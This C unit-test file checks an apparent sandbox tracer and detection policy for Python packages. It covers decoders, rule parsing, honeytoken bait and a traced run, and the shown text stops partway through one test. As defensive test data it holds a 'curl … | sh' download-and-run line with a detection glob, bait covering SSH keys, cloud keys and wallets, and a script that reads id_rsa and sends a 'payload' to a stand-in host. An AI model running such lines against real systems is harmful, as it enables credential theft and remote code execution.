/* test_trace.c — unit tests of the behaviour tracer and its judge: the
 * decoders (paths, socket addresses, DNS queries, /proc/net lines, open
 * flags), the tracer's table, the policy (globs, parsing and its errors,
 * overrides, ordering, the shipped file), the honeytokens (seeding, value
 * search in raw and base64 form, access-time reads), and real traced runs
 * in-process: events decoded with paths resolved through dirfds, cwd and
 * symlinks, DNS decoded, forks counted, and the keep callback. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "support.h"

#include "common/path.h"
#include "common/xalloc.h"
#include "exec/honeytoken.h"
#include "exec/policy.h"
#include "sandbox/sandbox.h"
#include "sandbox/sandbox_internal.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <linux/audit.h>
#include <sched.h>
#include <seccomp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void test_path_join_normal(void **state)
{
    (void)state;
    struct {
        const char *base, *rel, *want;
    } cases[] = {
        {"/a/b", "c", "/a/b/c"},
        {"/a/b", "../c", "/a/c"},
        {"/a/b", "../../../../c", "/c"},
        {"/a/b", "./x/./y/", "/a/b/x/y"},
        {"/a/b", "/etc//passwd", "/etc/passwd"},
        {"/", ".", "/"},
        {"/home/pyti", ".ssh/../.ssh/./id_rsa", "/home/pyti/.ssh/id_rsa"},
        {NULL, "/x/../../y", "/y"},
        {"/a", "", "/a"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        char *got = sb_path_join_normal(cases[i].base, cases[i].rel);
        assert_string_equal(got, cases[i].want);
        free(got);
    }
}

static void test_sockaddr(void **state)
{
    (void)state;
    char out[256];
    int fam, port;
    bool local;
    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(443)};
    inet_pton(AF_INET, "203.0.113.9", &in.sin_addr);
    assert_true(sb_tr_sockaddr((unsigned char *)&in, sizeof in, out, sizeof out, &fam, &port,
                               &local));
    assert_string_equal(out, "203.0.113.9:443");
    assert_int_equal(port, 443);
    assert_int_equal(fam, AF_INET);
    assert_false(local);
    inet_pton(AF_INET, "127.0.0.53", &in.sin_addr);
    in.sin_port = htons(53);
    assert_true(sb_tr_sockaddr((unsigned char *)&in, sizeof in, out, sizeof out, &fam, &port,
                               &local));
    assert_true(local);
    /* too short for what it claims to be */
    assert_false(sb_tr_sockaddr((unsigned char *)&in, 4, out, sizeof out, &fam, &port, &local));
    assert_false(sb_tr_sockaddr((unsigned char *)&in, 1, out, sizeof out, &fam, &port, &local));

    struct sockaddr_in6 in6 = {.sin6_family = AF_INET6, .sin6_port = htons(8080)};
    inet_pton(AF_INET6, "2001:db8::1", &in6.sin6_addr);
    assert_true(sb_tr_sockaddr((unsigned char *)&in6, sizeof in6, out, sizeof out, &fam, &port,
                               &local));
    assert_string_equal(out, "[2001:db8::1]:8080");
    assert_false(local);
    inet_pton(AF_INET6, "::ffff:127.0.0.1", &in6.sin6_addr);
    assert_true(sb_tr_sockaddr((unsigned char *)&in6, sizeof in6, out, sizeof out, &fam, &port,
                               &local));
    assert_true(local);

    struct sockaddr_un un = {.sun_family = AF_UNIX};
    strcpy(un.sun_path, "/run/x.sock");
    assert_true(sb_tr_sockaddr((unsigned char *)&un,
                               offsetof(struct sockaddr_un, sun_path) + strlen(un.sun_path) + 1,
                               out, sizeof out, &fam, &port, &local));
    assert_string_equal(out, "unix:/run/x.sock");
    assert_true(local);
    memset(un.sun_path, 0, sizeof un.sun_path);
    memcpy(un.sun_path, "\0abs\x01", 5);
    assert_true(sb_tr_sockaddr((unsigned char *)&un, offsetof(struct sockaddr_un, sun_path) + 5,
                               out, sizeof out, &fam, &port, &local));
    assert_string_equal(out, "unix:@abs\\x01");
    unsigned short odd = 77;
    assert_true(sb_tr_sockaddr((unsigned char *)&odd, sizeof odd, out, sizeof out, &fam, &port,
                               &local));
    assert_string_equal(out, "family 77");
}

/* A DNS query for name (dotted) of type qtype. */
static size_t dns_query(unsigned char *p, const char *name, unsigned qtype)
{
    static const unsigned char hdr[12] = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
    memcpy(p, hdr, 12);
    size_t n = 12;
    const char *s = name;
    while (*s) {
        const char *dot = strchr(s, '.');
        size_t l = dot ? (size_t)(dot - s) : strlen(s);
        p[n++] = (unsigned char)l;
        memcpy(p + n, s, l);
        n += l;
        s += l + (dot ? 1 : 0);
    }
    p[n++] = 0;
    p[n++] = (unsigned char)(qtype >> 8);
    p[n++] = (unsigned char)qtype;
    p[n++] = 0;
    p[n++] = 1;
    return n;
}

static void test_dns(void **state)
{
    (void)state;
    unsigned char q[600];
    char name[300];
    unsigned t;
    size_t n = dns_query(q, "Beacon.C2-Example.org", 1);
    assert_true(sb_dns_parse_query(q, n, name, sizeof name, &t));
    assert_string_equal(name, "beacon.c2-example.org");
    assert_int_equal(t, 1);
    assert_string_equal(sb_dns_type_name(t), "A");
    assert_string_equal(sb_dns_type_name(28), "AAAA");
    assert_null(sb_dns_type_name(4242));
    /* truncated anywhere: not a query */
    for (size_t cut = 0; cut < n; cut++)
        assert_false(sb_dns_parse_query(q, cut, name, sizeof name, &t));
    /* a response */
    q[2] |= 0x80;
    assert_false(sb_dns_parse_query(q, n, name, sizeof name, &t));
    q[2] &= 0x7f;
    /* no question */
    q[5] = 0;
    assert_false(sb_dns_parse_query(q, n, name, sizeof name, &t));
    q[5] = 1;
    /* a compression pointer has no place in a question */
    unsigned char c[40];
    memcpy(c, q, 12);
    c[12] = 0xc0;
    c[13] = 12;
    memset(c + 14, 0, 4);
    assert_false(sb_dns_parse_query(c, 18, name, sizeof name, &t));
    /* odd bytes are escaped; a small buffer truncates, never overflows */
    n = dns_query(q, "a\x01z.example", 16);
    assert_true(sb_dns_parse_query(q, n, name, sizeof name, &t));
    assert_string_equal(name, "a\\x01z.example");
    assert_true(sb_dns_parse_query(q, n, name, 6, &t));
    assert_true(strlen(name) < 6);
    /* the root */
    n = dns_query(q, "", 2);
    assert_true(sb_dns_parse_query(q, n, name, sizeof name, &t));
    assert_string_equal(name, ".");
}

static void test_net_lines(void **state)
{
    (void)state;
    unsigned long ino;
    char peer[128];
    int port;
    const char *v4 = "   3: 0100007F:A1B2 3500007F:0035 01 00000000:00000000 00:00000000 00000000  "
                     "1000        0 123456 2 0000000000000000 0\n";
    assert_true(sb_tr_parse_net_line(v4, false, &ino, peer, sizeof peer, &port));
    assert_int_equal(ino, 123456);
    assert_string_equal(peer, "127.0.0.53:53");
    assert_int_equal(port, 53);
    const char *v6 = "   0: 00000000000000000000000000000000:1F90 "
                     "B80D0120000000000000000001000000:01BB 01 00000000:00000000 00:00000000 "
                     "00000000  1000        0 777 1 0000000000000000 100 0 0 10 0\n";
    assert_true(sb_tr_parse_net_line(v6, true, &ino, peer, sizeof peer, &port));
    assert_int_equal(ino, 777);
    assert_string_equal(peer, "[2001:db8::1]:443");
    assert_false(sb_tr_parse_net_line("  sl  local_address rem_address   st tx_queue rx_queue tr "
                                      "tm->when retrnsmt   uid  timeout inode\n",
                                      false, &ino, peer, sizeof peer, &port));
    assert_false(sb_tr_parse_net_line("garbage", false, &ino, peer, sizeof peer, &port));
    assert_false(sb_tr_parse_net_line(v4, true, &ino, peer, sizeof peer, &port));
}

static void test_open_flags(void **state)
{
    (void)state;
    char out[200];
    sb_tr_open_flags(O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, out, sizeof out);
    assert_string_equal(out, "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC");
    sb_tr_open_flags(O_RDONLY, out, sizeof out);
    assert_string_equal(out, "O_RDONLY");
    sb_tr_open_flags(O_RDWR | __O_TMPFILE | O_DIRECTORY, out, sizeof out);
    assert_string_equal(out, "O_RDWR|O_TMPFILE");
    sb_tr_open_flags(O_RDONLY | 0x40000000, out, sizeof out);
    assert_string_equal(out, "O_RDONLY|0x40000000");
    sb_tr_open_flags(O_WRONLY | O_CREAT, out, 5); /* bounded */
    assert_true(strlen(out) < 5);
}

static void test_trace_table(void **state)
{
    (void)state;
    uint64_t args[6] = {0};
    int nr_clone = seccomp_syscall_resolve_name("clone");
    args[0] = CLONE_VM | CLONE_THREAD | CLONE_SIGHAND;
    assert_null(sb_trace_match(nr_clone, args)); /* threads are not notified */
    args[0] = SIGCHLD; /* nor processes: counted from the PID namespace */
    assert_null(sb_trace_match(nr_clone, args));
    assert_null(sb_trace_match(seccomp_syscall_resolve_name("fork"), args));
    assert_null(sb_trace_match(seccomp_syscall_resolve_name("vfork"), args));
    const sb_tr_rule *r = sb_trace_match(seccomp_syscall_resolve_name("openat"), args);
    assert_non_null(r);
    assert_string_equal(r->kind, "file.open");
    assert_null(sb_trace_match(seccomp_syscall_resolve_name("read"), args));
    assert_null(sb_trace_match(-1, args));
    assert_null(sb_trace_match(100000, args));
    /* every row names a call libseccomp knows (fchmodat2 may be too new) */
    for (const sb_tr_rule *t = sb_trace_rules(); t->name; t++)
        if (strcmp(t->name, "fchmodat2") != 0)
            assert_true(seccomp_syscall_resolve_name(t->name) >= 0);
    /* with the tracer the filter still builds; denied calls stay denied */
    sb_filter f;
    pyti_error err;
    assert_int_equal(sb_filter_build(NULL, true, &f, &err), PYTI_OK);
    sb_filter_free(&f);
    char name[64];
    const char *arch;
    uint64_t a[6] = {0};
    assert_int_equal(sb_seccomp_classify(AUDIT_ARCH_X86_64, seccomp_syscall_resolve_name("mount"),
                                         a, NULL, true, name, sizeof name, &arch),
                     SB_SC_DENY);
    assert_int_equal(sb_seccomp_classify(AUDIT_ARCH_X86_64,
                                         seccomp_syscall_resolve_name("openat"), a, NULL, true,
                                         name, sizeof name, &arch),
                     SB_SC_TRACE);
    a[0] = CLONE_NEWUSER;
    assert_int_equal(sb_seccomp_classify(AUDIT_ARCH_X86_64, nr_clone, a, NULL, true, name,
                                         sizeof name, &arch),
                     SB_SC_DENY);
}

/* ---- the policy ------------------------------------------------------- */

static void test_glob(void **state)
{
    (void)state;
    assert_true(policy_glob("/job/work/**", "/job/work/venv/lib/x.py", false));
    assert_true(policy_glob("/job/work/**", "/job/work", false));
    assert_false(policy_glob("/job/work/**", "/job/workshop/x", false));
    assert_true(policy_glob("**/site-packages/*.pth", "/v/lib/python3.11/site-packages/a.pth",
                            false));
    assert_false(policy_glob("**/site-packages/*.pth", "/v/site-packages/sub/a.pth", false));
    assert_true(policy_glob("**/site-packages/*.pth", "/a/site-packages/x/site-packages/b.pth",
                            false));
    assert_true(policy_glob("/home/*/.ssh/**", "/home/pyti/.ssh/id_rsa", false));
    assert_false(policy_glob("/home/*/.ssh/**", "/home/a/b/.ssh/id_rsa", false));
    assert_true(policy_glob("/etc/cron*", "/etc/crontab", false));
    assert_true(policy_glob("/etc/cron*/**", "/etc/cron.d/x", false));
    assert_true(policy_glob("**/curl", "/usr/bin/curl", false));
    assert_true(policy_glob("*curl *| *sh*", "sh -c curl -s http://x/y | sh", true));
    assert_false(policy_glob("*curl *| *sh*", "sh -c echo hi", true));
    assert_true(policy_glob("file.*", "file.write", true));
    assert_true(policy_glob("x86:*", "x86:open", true));
    assert_true(policy_glob("**/__pycache__", "/usr/lib/python3/__pycache__", false));
    assert_true(policy_glob("**/__pycache__/*", "/x/__pycache__/a.pyc.123", false));
}

static const char *const GOOD =
    "; a comment\n"
    "[rule secrets]\n"
    "id = honeytoken.read\n"
    "kind = honeytoken.read\n"
    "category = ssh-key, wallet\n"
    "severity = critical\n"
    "message = read a secret\n"
    "\n"
    "[rule net-local]\n"
    "kind = net.connect, net.send\n"
    "local = yes\n"
    "severity = ignore\n"
    "\n"
    "[rule net]\n"
    "id = trace.network\n"
    "kind = net.connect,\n"
    "    net.send\n"
    "phase = import\n"
    "severity = high\n"
    "\n"
    "[rule sleepy]\n"
    "id = trace.long-sleep\n"
    "kind = sleep\n"
    "min-seconds = 20\n"
    "severity = medium\n"
    "\n"
    "[rule chmod-x]\n"
    "id = trace.chmod\n"
    "kind = file.chmod\n"
    "mode-any = 0111\n"
    "path = /tmp/**\n"
    "severity = low\n"
    "\n"
    "[rule rename-into-home]\n"
    "id = trace.home\n"
    "kind = file.rename\n"
    "any-path = /home/pyti/.bashrc\n"
    "severity = critical\n"
    "\n"
    "[rule shells]\n"
    "id = trace.shell\n"
    "kind = exec\n"
    "socket-stdio = yes\n"
    "severity = critical\n"
    "\n"
    "[rule forks]\n"
    "id = trace.forks\n"
    "kind = forks\n"
    "min-count = 100\n"
    "process = py*\n"
    "severity = medium\n";

static void test_policy_parse_and_match(void **state)
{
    (void)state;
    pyti_policy p = {0};
    pyti_error err;
    assert_int_equal(policy_parse(&p, GOOD, strlen(GOOD), "good.ini", false, &err), PYTI_OK);
    assert_int_equal(p.n, 8);
    assert_string_equal(p.rules[2].name, "net");
    assert_int_equal(p.rules[2].kind.len, 2); /* continuation line */

    pyti_policy_event e = {.kind = "honeytoken.read", .category = "wallet", .phase = "import"};
    const pyti_policy_rule *r = policy_match(&p, &e);
    assert_non_null(r);
    assert_string_equal(r->id, "honeytoken.read");
    e.category = "cloud";
    assert_null(policy_match(&p, &e));

    pyti_policy_event n = {.kind = "net.send", .phase = "import", .object = "1.2.3.4:53"};
    assert_string_equal(policy_match(&p, &n)->name, "net");
    n.local = true;
    assert_int_equal(policy_match(&p, &n)->severity, POLICY_IGNORE); /* first match wins */
    n.local = false;
    n.phase = "test";
    assert_null(policy_match(&p, &n));

    pyti_policy_event s = {.kind = "sleep", .seconds = 5};
    assert_null(policy_match(&p, &s));
    s.seconds = 25;
    assert_string_equal(policy_match(&p, &s)->id, "trace.long-sleep");

    pyti_policy_event c = {.kind = "file.chmod", .object = "/tmp/x", .mode = 0644};
    assert_null(policy_match(&p, &c));
    c.mode = 0755;
    assert_non_null(policy_match(&p, &c));

    pyti_policy_event mv = {.kind = "file.rename", .object = "/tmp/x",
                            .object2 = "/home/pyti/.bashrc"};
    assert_string_equal(policy_match(&p, &mv)->id, "trace.home");

    pyti_policy_event x = {.kind = "exec", .object = "/bin/sh"};
    assert_null(policy_match(&p, &x));
    x.socket_stdio = true;
    assert_string_equal(policy_match(&p, &x)->id, "trace.shell");

    pyti_policy_event f = {.kind = "forks", .count = 500, .process = "python3"};
    assert_non_null(policy_match(&p, &f));
    f.process = "sh";
    assert_null(policy_match(&p, &f));
    f.process = NULL; /* a pattern never matches a missing value */
    assert_null(policy_match(&p, &f));

    /* a user's override: same name replaces in place, new rules go first */
    const char *user = "[rule net]\nkind = net.connect\nseverity = ignore\n"
                       "[rule mine]\nid = trace.mine\nkind = sleep\nseverity = info\n";
    assert_int_equal(policy_parse(&p, user, strlen(user), "user.ini", true, &err), PYTI_OK);
    assert_int_equal(p.n, 9);
    assert_string_equal(p.rules[0].name, "mine");
    assert_string_equal(p.rules[3].name, "net");
    assert_int_equal(p.rules[3].severity, POLICY_IGNORE);
    policy_free(&p);
}

static void test_policy_errors(void **state)
{
    (void)state;
    struct {
        const char *text, *want;
    } cases[] = {
        {"[rule a]\nkind = exec\nseverity = bad\n", "bad.ini:3: severity 'bad'"},
        {"[rule a]\nkind = exec\nfrobnicate = 1\n", "bad.ini:3: unknown key 'frobnicate'"},
        {"[rule a]\nkind = exec\nseverity = high\n", "bad.ini:2: rule 'a' gives a finding"},
        {"[rule a]\nid = trace.x\nseverity = high\n", "bad.ini:2: rule 'a' names no kind"},
        {"[rule a]\nid = trace.x\nkind = exec\n", "bad.ini:2: rule 'a' has no severity"},
        {"[rules]\nkind = exec\n", "bad.ini:2: section [rules]"},
        {"[rule a]\nid = scan.x\nkind = exec\nseverity = low\n", "bad.ini:2: id 'scan.x'"},
        {"[rule a]\nkind = exec\npath = /a/**/b/**\nseverity = ignore\n", "bad.ini:3: 'path'"},
        {"[rule a]\nkind = exec\npath = /a**\nseverity = ignore\n", "bad.ini:3: 'path'"},
        {"[rule a]\nkind = exec\nmin-seconds = -1\nseverity = ignore\n", "bad.ini:3: min-seconds"},
        {"[rule a]\nkind = exec\nmode-any = 9\nseverity = ignore\n", "bad.ini:3: mode-any"},
        {"[rule a]\nkind = exec\nmin-count = x\nseverity = ignore\n", "bad.ini:3: min-count"},
        {"[rule a]\nkind = exec\nlocal = maybe\nseverity = ignore\n", "bad.ini:3: 'local'"},
        {"[rule a]\nkind = ,\nseverity = ignore\n", "bad.ini:2: 'kind' has no pattern"},
        {"[rule a]\nkind = exec\nseverity = ignore\n[rule b]\nkind = exec\nseverity = ignore\n"
         "[rule a]\nkind = sleep\nseverity = ignore\n",
         "bad.ini:8: rule 'a' defined twice"},
        {"[rule a\nkind = exec\n", "bad.ini:1: syntax error"},
        {"kind = exec\n", "bad.ini:1: section []"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        pyti_policy p = {0};
        pyti_error err;
        const char *t = cases[i].text;
        assert_int_equal(policy_parse(&p, t, strlen(t), "bad.ini", false, &err), PYTI_ERR_INPUT);
        if (strncmp(err.msg, cases[i].want, strlen(cases[i].want)) != 0)
            fail_msg("case %zu: got '%s', want '%s...'", i, err.msg, cases[i].want);
        assert_int_equal(p.n, 0); /* nothing half-added */
        policy_free(&p);
    }
    pyti_policy p = {0};
    pyti_error err;
    char nul[] = "[rule a]\nkind = e\0xec\n";
    assert_int_equal(policy_parse(&p, nul, sizeof nul - 1, "nul.ini", false, &err),
                     PYTI_ERR_INPUT);
    char *big = xmalloc(POLICY_MAX_BYTES + 2);
    memset(big, ';', POLICY_MAX_BYTES + 1);
    big[POLICY_MAX_BYTES + 1] = '\0';
    assert_int_equal(policy_parse(&p, big, POLICY_MAX_BYTES + 1, "big.ini", false, &err),
                     PYTI_ERR_INPUT);
    free(big);
    char longline[9000];
    memset(longline, 'x', sizeof longline - 1);
    memcpy(longline, "[rule a]\nkind = ", 16);
    longline[sizeof longline - 1] = '\0';
    assert_int_equal(policy_parse(&p, longline, strlen(longline), "long.ini", false, &err),
                     PYTI_ERR_INPUT);
}

static void test_shipped_policy(void **state)
{
    (void)state;
    char *dir = t_tmpdir();
    setenv("XDG_CONFIG_HOME", dir, 1);
    pyti_policy p;
    pyti_error err;
    assert_int_equal(policy_load_default(&p, &err), PYTI_OK);
    assert_true(p.n > 30);
    struct {
        pyti_policy_event e;
        const char *id; /* NULL: ignored or recorded */
        int sev;
    } cases[] = {
        {{.kind = "file.open", .phase = "import", .object = "/usr/lib/python3.11/os.py"}, NULL,
         POLICY_IGNORE},
        {{.kind = "file.write", .phase = "install", .object = "/job/work/venv/lib/x.py"}, NULL,
         POLICY_IGNORE},
        {{.kind = "file.write", .phase = "import", .object = "/home/pyti/.bashrc"},
         "trace.persistence", 4},
        {{.kind = "file.write", .phase = "install",
          .object = "/job/work/venv/lib/python3.11/site-packages/x.pth"}, NULL, POLICY_IGNORE},
        {{.kind = "file.write", .phase = "import",
          .object = "/job/work/venv/lib/python3.11/site-packages/x.pth"}, "trace.startup-hook", 4},
        {{.kind = "file.write", .phase = "build",
          .object = "/job/work/build-env/lib/python3.11/site-packages/distutils-precedence.pth"},
         NULL, POLICY_IGNORE},
        {{.kind = "file.write", .phase = "import",
          .object = "/usr/lib/python3.11/__pycache__/x.cpython-311.pyc.1234"}, NULL,
         POLICY_IGNORE},
        {{.kind = "net.dns", .phase = "import", .object = "x.example"}, "trace.dns-query", 3},
        {{.kind = "net.dns", .phase = "test", .object = "x.example"}, "trace.dns-query", 1},
        {{.kind = "net.connect", .phase = "test", .object = "127.0.0.1:80", .local = true}, NULL,
         POLICY_IGNORE},
        {{.kind = "honeytoken.read", .phase = "test", .category = "ssh-key"}, "honeytoken.read",
         4},
        {{.kind = "honeytoken.read", .phase = "test", .category = "cloud"}, "honeytoken.read", 2},
        {{.kind = "honeytoken.read", .phase = "import", .category = "cloud"}, "honeytoken.read",
         3},
        {{.kind = "exec", .phase = "import", .object = "/usr/bin/python3.11"}, NULL,
         POLICY_RECORD},
        {{.kind = "exec", .phase = "build", .object = "/bin/sh",
          .argv = "sh -c curl -s http://x/y.sh | sh"}, "trace.exec-downloader", 4},
        {{.kind = "combo.dropper", .phase = "test"}, "trace.dropper", 1},
        {{.kind = "combo.dropper", .phase = "import"}, "trace.dropper", 4},
        {{.kind = "limit", .phase = "import", .object = "pids"}, "trace.fork-bomb", 4},
        {{.kind = "denied", .phase = "import", .object = "io_uring_setup"}, "trace.evasion", 3},
        {{.kind = "denied", .phase = "import", .object = "mount"}, "trace.denied-syscall", 2},
        {{.kind = "file.open", .phase = "import", .object = "/proc/1/cgroup"},
         "trace.sandbox-probe", 2},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        const pyti_policy_rule *r = policy_match(&p, &cases[i].e);
        int sev = r ? r->severity : POLICY_IGNORE;
        if (sev != cases[i].sev || (cases[i].id && (!r->id || strcmp(r->id, cases[i].id))))
            fail_msg("case %zu (%s %s): rule %s, severity %d", i, cases[i].e.kind,
                     cases[i].e.object ? cases[i].e.object : "", r ? r->name : "(none)", sev);
    }
    policy_free(&p);
    /* a broken user file is an error naming it, not a silent default */
    char *cfg = xasprintf("%s/pyti", dir);
    mkdir(cfg, 0700);
    free(t_write(cfg, "trace-policy.ini", "[rule x]\nkind = exec\nseverity = nope\n"));
    assert_int_equal(policy_load_default(&p, &err), PYTI_ERR_INPUT);
    assert_non_null(strstr(err.msg, "trace-policy.ini:3"));
    free(cfg);
    unsetenv("XDG_CONFIG_HOME");
}

/* ---- honeytokens ------------------------------------------------------ */

static void test_honeytokens(void **state)
{
    (void)state;
    char *dir = t_tmpdir();
    pyti_honeytokens h, h2;
    pyti_error err;
    assert_int_equal(honeytokens_seed(dir, &h, &err), PYTI_OK);
    assert_true(h.n_files >= 15);
    assert_true(h.n_values >= 10);
    const char *cats[] = {"ssh-key", "cloud", "pypi", "netrc", "git", "docker", "kube",
                          "browser", "discord", "wallet", "known-hosts"};
    for (size_t c = 0; c < sizeof cats / sizeof *cats; c++) {
        bool found = false;
        for (size_t i = 0; i < h.n_files; i++)
            found |= strcmp(h.files[i].category, cats[c]) == 0;
        if (!found)
            fail_msg("no bait of category %s", cats[c]);
    }
    /* every bait exists on disk and is found by its inside path */
    for (size_t i = 0; i < h.n_files; i++) {
        char *p = xasprintf("%s%s", dir, h.files[i].path + strlen(HONEYTOKEN_HOME));
        struct stat st;
        assert_int_equal(lstat(p, &st), 0);
        assert_true(S_ISREG(st.st_mode) && st.st_size > 0);
        free(p);
        assert_ptr_equal(honeytokens_file(&h, h.files[i].path), &h.files[i]);
    }
    assert_null(honeytokens_file(&h, "/home/pyti/.bashrc"));
    assert_null(honeytokens_file(&h, "/etc/passwd"));
    /* environment */
    bool aws = false, gh = false;
    for (size_t i = 0; i < h.env.len; i++) {
        aws |= strncmp(h.env.items[i], "AWS_SECRET_ACCESS_KEY=", 22) == 0;
        gh |= strncmp(h.env.items[i], "GITHUB_TOKEN=ghp_", 17) == 0;
    }
    assert_true(aws && gh);
    /* values: raw, any case, base64 at any alignment; not in noise */
    const pyti_bait_value *v = &h.values[0];
    char *msg = xasprintf("POST /x HTTP/1.1\r\n\r\nkey=%s&x=1", v->value);
    assert_ptr_equal(honeytokens_find_value(&h, msg, strlen(msg)), v);
    for (char *q = msg; *q; q++)
        if (*q >= 'a' && *q <= 'z')
            *q = (char)(*q - 'a' + 'A');
    assert_ptr_equal(honeytokens_find_value(&h, msg, strlen(msg)), v);
    free(msg);
    for (int pre = 0; pre < 3; pre++) {
        char *plain = xasprintf("%.*s{\"token\": \"%s\"}", pre, "xyz", h.values[1].value);
        static const char B[] =
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        size_t n = strlen(plain);
        char *enc = xmalloc(4 * (n / 3 + 2) + 1);
        size_t j = 0;
        for (size_t i = 0; i < n; i += 3) {
            unsigned w = (unsigned char)plain[i] << 16 |
                         (i + 1 < n ? (unsigned char)plain[i + 1] << 8 : 0) |
                         (i + 2 < n ? (unsigned char)plain[i + 2] : 0);
            enc[j++] = B[w >> 18 & 63];
            enc[j++] = B[w >> 12 & 63];
            enc[j++] = i + 1 < n ? B[w >> 6 & 63] : '=';
            enc[j++] = i + 2 < n ? B[w & 63] : '=';
        }
        enc[j] = '\0';
        assert_ptr_equal(honeytokens_find_value(&h, enc, j), &h.values[1]);
        free(enc);
        free(plain);
    }
    const char *noise = "GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: python\r\n\r\n";
    assert_null(honeytokens_find_value(&h, noise, strlen(noise)));
    assert_null(honeytokens_find_value(&h, NULL, 0));
    /* a second seeding gives other values */
    char *dir2 = t_tmpdir();
    assert_int_equal(honeytokens_seed(dir2, &h2, &err), PYTI_OK);
    assert_string_not_equal(h.values[0].value, h2.values[0].value);
    honeytokens_free(&h2);
    /* reads show in access times (relatime: atime older than mtime) */
    pyti_strv read = PYTI_STRV_INIT;
    honeytokens_check_reads(&h, &read);
    assert_int_equal(read.len, 0);
    char *key = xasprintf("%s/.ssh/id_rsa", dir);
    free(t_slurp(key));
    free(key);
    honeytokens_check_reads(&h, &read);
    assert_int_equal(read.len, 1);
    assert_string_equal(read.items[0], "/home/pyti/.ssh/id_rsa");
    strv_free(&read);
    honeytokens_check_reads(&h, &read); /* reset: not reported twice */
    assert_int_equal(read.len, 0);
    honeytokens_free(&h);
}

/* ---- real traced runs ------------------------------------------------- */

static bool keep_all_but_usr(void *user, pyti_sandbox_event *ev)
{
    (*(int *)user)++;
    return !(ev->object && strncmp(ev->object, "/usr/", 5) == 0);
}

static const pyti_sandbox_event *find_event(const pyti_sandbox_result *res, const char *kind,
                                            const char *object)
{
    for (size_t i = 0; i < res->n_events; i++)
        if (strcmp(res->events[i].kind, kind) == 0 && res->events[i].object &&
            strcmp(res->events[i].object, object) == 0)
            return &res->events[i];
    return NULL;
}

/* honeytokens_prepare in a job: a seeder started ahead
 * (honeytokens_prepare_async) and a task's own call give one home with
 * one set of values, whichever comes first; a home a seeder left without
 * its manifest is made again. */
static void test_honeytokens_prepare(void **state)
{
    (void)state;
    char *dir = t_tmpdir();
    pyti_job job = {0};
    job.job_dir = dir;
    pyti_honeytokens a, b;
    pyti_error err;
    pid_t seeder = honeytokens_prepare_async(&job);
    assert_true(seeder > 0);
    /* racing the seeder: the lock makes one of the two seed */
    assert_int_equal(honeytokens_prepare(&job, &a, &err), PYTI_OK);
    int wst = -1;
    assert_int_equal(waitpid(seeder, &wst, 0), seeder);
    assert_true(WIFEXITED(wst) && WEXITSTATUS(wst) == 0);
    assert_int_equal(honeytokens_prepare(&job, &b, &err), PYTI_OK);
    assert_string_equal(a.values[0].value, b.values[0].value);
    char *key = xasprintf("%s/home/.ssh/id_rsa", dir);
    char *text = t_slurp(key);
    assert_non_null(strstr(text, "PRIVATE KEY"));
    free(text);
    honeytokens_free(&b);
    /* a seeder killed before its manifest: the home is made again */
    char *manifest = path_join(dir, "honeytokens.json");
    assert_int_equal(unlink(manifest), 0);
    assert_int_equal(honeytokens_prepare(&job, &b, &err), PYTI_OK);
    assert_true(path_is_file(manifest));
    assert_string_not_equal(a.values[0].value, b.values[0].value);
    assert_true(path_is_file(key));
    honeytokens_free(&a);
    honeytokens_free(&b);
    free(manifest);
    free(key);
}

static void test_traced_run(void **state)
{
    (void)state;
    pyti_sandbox_probe probe;
    if (sandbox_probe(&probe, true, NULL) != PYTI_OK)
        skip();
    char *home = t_tmpdir();
    free(t_write(home, ".ssh/id_rsa", "secret\n"));
    chmod(home, 0777);
    char *ssh = xasprintf("%s/.ssh", home);
    chmod(ssh, 0777);
    free(ssh);
    pyti_sandbox_spec s;
    sandbox_spec_init(&s);
    char *argv[] = {
        "/bin/sh", "-c",
        "cd /home/pyti/.ssh && cat id_rsa >/dev/null; cd /tmp; "
        "ln -s /home/pyti/.ssh/id_rsa /tmp/l; cat /tmp/l >/dev/null; "
        "mkdir /tmp/d; mv /tmp/d /tmp/e; chmod 755 /tmp/e; "
        "python3 -c 'import socket\n"
        "try: socket.gethostbyname(\"beacon.example.org\")\n"
        "except OSError: pass\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try: s.sendto(b\"payload\", (\"198.51.100.1\", 9))\n"
        "except OSError: pass\n"
        "import os; os.waitpid(os.fork(), 0) if True else 0'",
        NULL,
    };
    s.argv = argv;
    s.home_source = home;
    s.trace = true;
    int seen = 0;
    s.keep_event = keep_all_but_usr;
    s.user = &seen;
    s.limits.timeout_s = 60;
    pyti_sandbox_result res;
    pyti_error err;
    assert_int_equal(sandbox_run(&s, &res, &err), PYTI_OK);
    assert_int_equal(res.exit_code, 0);
    assert_true(res.traced_calls > 10);
    assert_true(seen > 0 && (size_t)seen >= res.n_events);
    assert_true(res.forks >= 5);  /* the shell's children and the python fork */
    assert_true(res.execs >= 5);
    assert_true(res.sync_wakeup); /* Linux 6.6+; this machine runs 6.18 */
    for (size_t i = 0; i < res.n_events; i++)
        assert_false(res.events[i].object && strncmp(res.events[i].object, "/usr/", 5) == 0);
    /* relative to the cwd */
    const pyti_sandbox_event *e = find_event(&res, "file.open", "/home/pyti/.ssh/id_rsa");
    assert_non_null(e);
    assert_string_equal(json_string_value(json_object_get(e->detail, "given")), "id_rsa");
    /* through a symlink the sandbox could write */
    size_t hits = 0;
    for (size_t i = 0; i < res.n_events; i++) {
        const pyti_sandbox_event *x = &res.events[i];
        if (strcmp(x->kind, "file.open") == 0 && x->object &&
            strcmp(x->object, "/home/pyti/.ssh/id_rsa") == 0 &&
            json_object_get(x->detail, "resolved"))
            hits++;
    }
    assert_int_equal(hits, 1);
    e = find_event(&res, "file.symlink", "/tmp/l");
    assert_non_null(e);
